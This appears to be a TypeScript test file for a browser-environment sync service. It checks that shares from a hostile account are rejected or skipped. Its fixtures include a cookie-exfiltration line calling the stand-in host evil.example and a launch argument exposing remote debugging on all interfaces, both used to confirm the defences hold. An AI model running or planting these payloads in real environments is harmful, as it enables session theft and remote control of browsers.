/**
 * Sharing between accounts that distrust each other, and no acknowledged change lost (issue 24):
 * the attacks made with the cloud's own calls as another account would make them, against real
 * local-API processes and a real cloud, on SQLite and PostgreSQL.
 */
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { scriptId, startTestCloud, type TestCloud } from '@hainiao/testkit/cloud';
import { postgresUp } from '@hainiao/testkit/postgres';
import { spawnLocalApi, type ServiceProcess } from '@hainiao/testkit/service-process';

type Credential = { Account: string; APP_ID: string; APP_KEY: string };

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const newId = () => createHash('sha256').update(String(Math.random())).digest('hex').slice(0, 32);

/** A snapshot as a local API writes one (the attacker writes them by hand). */
function snapshot(name: string, extra: Record<string, unknown> = {}) {
  return {
    v: 1,
    env: {
      name,
      description: '',
      group: 'default',
      system: 'Linux x86_64',
      userAgent:
        'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
      proxyType: 'noproxy',
      proxyIp: '',
      createdAt: Date.now(),
    },
    settings: {},
    startPages: [],
    plugins: [],
    scripts: [],
    usage: { cookies: [], fingerprint: null, updatedAt: Date.now(), profile: null },
    ...extra,
  };
}

for (const database of ['sqlite', 'postgres'] as const) {
  describe.skipIf(database === 'postgres' && !postgresUp)(`trust in sync [${database}]`, () => {
    let cloud: TestCloud;
    const folders: string[] = [];
    const running: ServiceProcess[] = [];
    const accounts: Record<string, Credential> = {};
    let round = 0;

    /** Names of this attempt's own (a retried test signs up anew). */
    async function accountsFor(...names: string[]): Promise<Credential[]> {
      round += 1;
      const made: Credential[] = [];
      for (const name of names) {
        const unique = `${name}${round}`;
        accounts[unique] ??= await cloud.account(unique);
        made.push(accounts[unique]);
      }
      return made;
    }

    function machine(syncIntervalMs = '400') {
      const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'hainiao-machine-'));
      folders.push(dataDir);
      return {
        dataDir,
        async start(credential?: Credential) {
          const service = await spawnLocalApi({
            dataDir,
            cloud: cloud.url,
            env: { HAINIAO_SYNC_INTERVAL_MS: syncIntervalMs, HAINIAO_CLOUD_TIMEOUT_MS: '3000' },
          });
          running.push(service);
          if (credential) await login(service, credential);
          return service;
        },
      };
    }

    async function login(service: ServiceProcess, credential: Credential) {
      const res = await service.post('/login', credential);
      expect(res.json().status, res.text).toBe(0);
    }

    const managerState = async (service: ServiceProcess) =>
      (await fetch(`http://127.0.0.1:${service.port}/manager/state`)).json() as Promise<{
        syncSkipped: { envId: string; owner: string; reason: string }[];
      }>;

    const listid = async (service: ServiceProcess) => {
      const res = await service.post('/api/v1/session/listid', {});
      expect(res.json().code, res.text).toBe(0);
      return res.json().data.listid as string[];
    };
    const create = async (service: ServiceProcess, fields: Record<string, unknown> = {}) => {
      const res = await service.post('/api/v1/session/create', {
        Automatic_Configure: 0,
        ...fields,
      });
      expect(res.json().code, res.text).toBe(0);
      return res.json().data.Session_Id as string;
    };

    /** The attacker's own lease and raw pushes, with nothing but its credential. */
    async function attacker(credential: Credential) {
      const device = `attacker-${newId()}`;
      const lease = await cloud.call('apilogin', {
        Account: credential.Account,
        APP_ID: credential.APP_ID,
        APP_KEY: credential.APP_KEY,
        device,
      });
      expect(lease.code, lease.msg).toBe(0);
      const token = lease.data.token as string;
      return {
        async push(envId: string, body: string, baseVersion = 0) {
          const form = new FormData();
          const fields = {
            inweb: '1',
            lang: 'en',
            token,
            device,
            env_id: envId,
            base_version: String(baseVersion),
            hash: sha256(body),
          };
          for (const [k, v] of Object.entries(fields)) form.append(k, v);
          form.append('body', new Blob([body], { type: 'application/json' }), 'snapshot.json');
          const res = await fetch(`${cloud.url}/api/hainiao/envpush`, {
            method: 'POST',
            body: form,
          });
          const answer = (await res.json()) as {
            code: number;
            msg: string;
            data?: { version: number };
          };
          return answer;
        },
        share: (envId: string, to: string) => cloud.call('envshare', { token, env_id: envId, to }),
        /** The attacker's own view: what it owns, not deleted. */
        async owned() {
          const pulled = await cloud.call('envpull', { token, since: '0' });
          return (pulled.data.changes as { env_id: string; deleted: boolean }[])
            .filter((c) => !c.deleted)
            .map((c) => c.env_id);
        },
      };
    }

    // A cloud per test: its sign-ins count against one address's per-minute limit (apilogin).
    beforeEach(async () => {
      cloud = await startTestCloud({ database });
    }, 60_000);

    afterEach(async () => {
      await Promise.all(running.splice(0).map((s) => s.kill()));
      await cloud?.stop();
      for (const dir of folders.splice(0)) fs.rmSync(dir, { recursive: true, force: true });
      for (const name of Object.keys(accounts)) delete accounts[name];
    });

    test('an environment created just before an account switch reaches the cloud under its author (item 9)', async () => {
      const [alice, bob] = await accountsFor('alice', 'bob');
      const pc = machine();
      const service = await pc.start(alice);
      const id = await create(service, { Session_Name: 'made before the switch' });
      await login(service, bob!);
      // Another machine of the author's finds it, without the first ever logging in as her again.
      const laptop = await machine().start(alice);
      await expect.poll(() => listid(laptop), { timeout: 20_000, interval: 500 }).toContain(id);
      expect(await listid(service)).not.toContain(id);
      // One machine per credential: the laptop signs out before the first machine signs in again.
      await laptop.quit();
      await login(service, alice!);
      expect(await listid(service)).toContain(id);
    });

    test('a malformed share is skipped and recorded; the receiver keeps syncing (item 3)', async () => {
      const [mallory, victim] = await accountsFor('mallory', 'victim');
      const evil = await attacker(mallory!);
      const bad = newId();
      const pushed = await evil.push(bad, JSON.stringify({ v: 1, env: { name: 'x' } }));
      // The cloud refuses it (the snapshot schema); a snapshot the cloud took but this machine
      // cannot use (an argument outside the allow-list) is skipped here instead.
      expect(pushed.code).not.toBe(0);
      const sneaky = newId();
      const sneakyBody = JSON.stringify(
        snapshot('sneaky', { settings: { launchArgs: ['--remote-debugging-address=0.0.0.0'] } }),
      );
      expect((await evil.push(sneaky, sneakyBody)).code).toBe(0);
      expect((await evil.share(sneaky, victim!.Account)).code).toBe(0);
      const good = newId();
      expect((await evil.push(good, JSON.stringify(snapshot('fine')))).code).toBe(0);
      expect((await evil.share(good, victim!.Account)).code).toBe(0);

      const service = await machine().start(victim);
      await expect.poll(() => listid(service), { timeout: 20_000, interval: 500 }).toContain(good);
      expect(await listid(service)).not.toContain(sneaky);
      const state = await managerState(service);
      expect(state.syncSkipped).toEqual([
        expect.objectContaining({ envId: sneaky, owner: mallory!.Account }),
      ]);
      // The receiver's own changes still travel (to its next machine: one at a time).
      const mine = await create(service, { Session_Name: 'mine' });
      await service.quit();
      const other = await machine().start(victim);
      await expect.poll(() => listid(other), { timeout: 20_000, interval: 500 }).toContain(mine);
      expect(await listid(other)).toContain(good);
      // It can leave the share it cannot use…
      const left = await other.post('/api/v1/session/delete', { Session_ID: [sneaky] });
      expect(left.json().data.Delete_Session_Success, left.text).toEqual([sneaky]);
      expect((await managerState(other)).syncSkipped).toEqual([]);
      // …and one it can: gone from the receiver, kept by its owner, not back on the next pull.
      const leave = await other.post('/api/v1/session/delete', { Session_ID: [good] });
      expect(leave.json().data.Delete_Session_Success, leave.text).toEqual([good]);
      expect(await listid(other)).not.toContain(good);
      expect(await evil.owned()).toEqual(expect.arrayContaining([good, sneaky]));
      await other.quit();
      const third = await machine().start(victim);
      expect(await listid(third)).toEqual(expect.arrayContaining([mine]));
      expect(await listid(third)).not.toContain(good);
      expect((await managerState(third)).syncSkipped).toEqual([]);
    });

    test('a share, a change and an unshare reach the receiver within 5 s, not with the timer (item 11)', async () => {
      const [alice, bob] = await accountsFor('alice', 'bob');
      // A timer far beyond the test: only the live watch can bring the changes in time.
      const owner = await machine('600000').start(alice);
      const receiver = await machine('600000').start(bob);
      const id = await create(owner, { Session_Name: 'live' });
      const shared = await owner.post('/api/v1/session/share', {
        Session_ID: id,
        Share_Username: bob!.Account,
      });
      expect(shared.json().code, shared.text).toBe(0);
      await expect.poll(() => listid(receiver), { timeout: 5_000, interval: 250 }).toContain(id);
      const renamed = await owner.post('/api/v1/session/update', {
        Session_ID: id,
        Session_Name: 'live, renamed',
      });
      expect(renamed.json().code, renamed.text).toBe(0);
      const nameOn = async (service: ServiceProcess) =>
        (
          await service.post('/api/v1/session/id_container', {
            Session_ID: [id],
            Session_container_type: 1,
          })
        ).json().data.listcontainer[0]?.Session_Name;
      await expect
        .poll(() => nameOn(receiver), { timeout: 5_000, interval: 250 })
        .toBe('live, renamed');
      const unshared = await owner.post('/api/v1/session/unshare', {
        Session_ID: id,
        Share_Username: bob!.Account,
      });
      expect(unshared.json().code, unshared.text).toBe(0);
      await expect
        .poll(() => listid(receiver), { timeout: 5_000, interval: 250 })
        .not.toContain(id);
    });

    test("a share cannot replace the script another environment of the receiver's runs (item 2)", async () => {
      const [mallory, victim] = await accountsFor('mallory', 'victim');
      const service = await machine().start(victim);
      const own = await create(service, { Session_Name: 'own' });
      const added = await service.post('/api/v1/session/id_script_add', {
        Session_ID: own,
        Script_ID: [scriptId('keep-alive')],
      });
      expect(added.json().code, added.text).toBe(0);
      const before = (
        await service.post('/api/v1/session/id_script_list', { Session_ID: own })
      ).json().data;
      const library = Buffer.from(
        before.Actived_script_encode || before.UnActived_script_list[0].UnActived_script_encode,
        'base64',
      ).toString('utf8');

      const evil = await attacker(mallory!);
      const shared = newId();
      const stolen = 'fetch("https://evil.example/?c=" + document.cookie)';
      const body = snapshot('with a script', {
        scripts: [
          {
            scriptId: scriptId('keep-alive'),
            name: 'Keep alive',
            version: '1.0.0',
            active: true,
            source: stolen,
          },
        ],
      });
      expect((await evil.push(shared, JSON.stringify(body))).code).toBe(0);
      expect((await evil.share(shared, victim!.Account)).code).toBe(0);
      await expect
        .poll(() => listid(service), { timeout: 20_000, interval: 500 })
        .toContain(shared);

      const after = (
        await service.post('/api/v1/session/id_script_list', { Session_ID: own })
      ).json().data;
      const sources = [
        after.Actived_script_encode,
        ...after.UnActived_script_list.map(
          (s: { UnActived_script_encode: string }) => s.UnActived_script_encode,
        ),
      ]
        .filter(Boolean)
        .map((b64: string) => Buffer.from(b64, 'base64').toString('utf8'));
      expect(sources).toEqual([library]);
      expect(sources.join('')).not.toContain('evil.example');
    });
  });
}
